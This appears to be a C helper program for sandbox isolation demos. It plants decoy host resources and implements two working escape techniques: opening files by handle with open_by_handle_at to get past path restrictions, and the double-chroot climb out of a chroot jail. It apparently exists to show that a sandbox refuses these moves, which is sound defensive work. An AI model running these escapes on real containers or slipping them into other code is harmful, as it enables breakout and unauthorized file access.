/* SPDX-License-Identifier: Apache-2.0 */
/*
 * What a shell cannot do, on both sides of the demos:
 *	attack host COMMAND...	the decoy: a key and a shared memory segment, both of the host's,
 *				that last as long as the command
 *	attack tell FILE	prints the handle of a file. On ext4 an attacker finds one by
 *				counting; the demo's tmpfs makes it up at random, so it is told
 *	attack handle HANDLE	opens that file from inside, past every path, and prints it
 *	attack chroot FILE	climbs out of a chroot, and prints the file
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/shm.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { DECOY_SHM = 0xdec0 };

union handle {
	struct file_handle head;
	unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static int fail(const char *call)
{
	printf("refused: %s: %s\n", call, strerror(errno));
	return 1;
}

static int print_file(int fd)
{
	char text[200];
	ssize_t n = read(fd, text, sizeof(text));

	if (n < 0)
		return fail("read");
	return fwrite(text, 1, (size_t)n, stdout) == (size_t)n ? 0 : 1;
}

static int host(char **command)
{
	if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
	    syscall(SYS_add_key, "user", "decoy-key", "x", 1, KEY_SPEC_SESSION_KEYRING) < 0)
		fail("add_key");
	if (shmget(DECOY_SHM, 4096, IPC_CREAT | 0600) < 0)
		fail("shmget");
	execvp(command[0], command);
	return fail("execvp");
}

static int tell(const char *file)
{
	union handle h = { .head.handle_bytes = MAX_HANDLE_SZ };
	int mount_id;

	if (name_to_handle_at(AT_FDCWD, file, &h.head, &mount_id, 0) < 0)
		return fail("name_to_handle_at");
	for (size_t i = 0; i < sizeof(h.head) + h.head.handle_bytes; i++)
		printf("%02x", h.bytes[i]);
	printf("\n");
	return 0;
}

static int by_handle(const char *hex)
{
	union handle h = { 0 };
	int somewhere = open("/bin", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	for (size_t i = 0; i < sizeof(h.bytes) && hex[2 * i] && hex[2 * i + 1]; i++) {
		const char digits[] = { hex[2 * i], hex[2 * i + 1], '\0' };

		h.bytes[i] = (unsigned char)strtoul(digits, NULL, 16);
	}
	int fd = open_by_handle_at(somewhere, &h.head, O_RDONLY);

	return fd < 0 ? fail("open_by_handle_at") : print_file(fd);
}

/* Whoever is outside of his root when he walks up meets no root on the way. */
static int climb(const char *file)
{
	(void)mkdir("/below", 0755);
	if (chroot("/below") < 0)
		return fail("chroot");
	for (int i = 0; i < 64; i++)
		(void)!chdir("..");
	if (chroot(".") < 0)
		return fail("chroot");
	int fd = open(file, O_RDONLY | O_CLOEXEC);

	return fd < 0 ? fail("open") : print_file(fd);
}

int main(int argc, char **argv)
{
	if (argc > 2 && strcmp(argv[1], "host") == 0)
		return host(argv + 2);
	if (argc == 3 && strcmp(argv[1], "tell") == 0)
		return tell(argv[2]);
	if (argc == 3 && strcmp(argv[1], "handle") == 0)
		return by_handle(argv[2]);
	if (argc == 3 && strcmp(argv[1], "chroot") == 0)
		return climb(argv[2]);
	fputs("usage: attack host|tell|handle|chroot ...\n", stderr);
	return 2;
}
